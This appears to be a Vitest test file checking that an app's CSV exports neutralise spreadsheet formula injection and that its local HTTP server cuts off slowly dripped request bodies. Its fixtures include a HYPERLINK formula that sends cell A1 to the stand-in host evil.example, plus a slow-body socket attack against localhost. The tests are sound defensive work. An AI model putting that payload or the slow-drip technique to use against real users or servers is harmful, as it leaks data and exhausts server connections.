// Issue 20, item 8: spreadsheet formula injection in CSV exports, and sockets that send a body slowly.
import { afterEach, describe, expect, it } from 'vitest';
import { mkdirSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { exportRecords, toCsv } from '../../main/api/export.js';
import { toCsv as rendererCsv } from '../../renderer/export/tables.js';
import { REQUEST_TIMEOUT_MS, startWebShell, type WebShell } from '../../main/app/index.js';
import type { AppInfo, Experiment, ResultRecord, RunSummary } from '../../main/api/contract.js';
import { openTestService } from '../helpers/service.js';
import { tempDir } from '../helpers/tmp.js';

describe('CSV export', () => {
  it('prefixes text cells that a spreadsheet would run as a formula, in the service export and the renderer alike', () => {
    const label = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    const record: ResultRecord = { key: 'score:x:t', kind: 'score', at: 't', data: { config: label, task: '+cmd', note: '@SUM(1)', other: '-2+3', score: -0.5 } };
    const input = { experiment: { name: 'e', spec: { seed: 0 }, specHash: 'h' } as unknown as Experiment, run: { id: 'run-1' } as RunSummary, records: [record], info: {} as AppInfo };
    const csv = exportRecords('csv', input).content;
    const row = csv.split('\r\n')[1];
    expect(row).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",'+cmd,'@SUM(1),'-2+3,-0.5`);
    expect(toCsv({ columns: ['a'], rows: [['=1+1'], [-3]] })).toBe("a\r\n'=1+1\r\n-3\r\n");
    expect(rendererCsv({ columns: [{ label: '=x' }], rows: [['@y'], [-1.234]] })).toBe("'=x\r\n'@y\r\n-1.23\r\n");
  });
});

describe('web shell sockets', () => {
  let shell: WebShell | undefined;
  afterEach(async () => {
    await shell?.close();
    shell = undefined;
  });

  it("closes a socket whose body trickles in, well before Node's 300 s default", async () => {
    const home = tempDir();
    mkdirSync(join(home, 'static'));
    writeFileSync(join(home, 'static', 'index.html'), '<!doctype html>');
    const service = await openTestService(home);
    const defaults = await startWebShell({ service, staticDir: join(home, 'static') });
    expect(defaults.server.requestTimeout).toBe(REQUEST_TIMEOUT_MS);
    expect(REQUEST_TIMEOUT_MS).toBeLessThanOrEqual(30_000);
    expect(defaults.server.headersTimeout).toBeLessThanOrEqual(10_000);
    await defaults.close();
    shell = await startWebShell({ service, staticDir: join(home, 'static'), requestTimeoutMs: 600 });
    const port = shell.port;
    const t0 = Date.now();
    const answer = await new Promise<string>((resolve) => {
      const socket = connect(port, '127.0.0.1', () => {
        socket.write(`POST /api/info HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nAuthorization: Bearer ${shell!.token}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{`);
        const drip = setInterval(() => socket.writable && socket.write(' '), 100); // one byte every 100 ms: never finishes
        let text = '';
        socket.on('data', (d) => (text += d));
        socket.on('close', () => {
          clearInterval(drip);
          resolve(text);
        });
      });
    });
    expect(Date.now() - t0).toBeLessThan(5000);
    expect(answer).toMatch(/^HTTP\/1\.1 408/);
  });
});
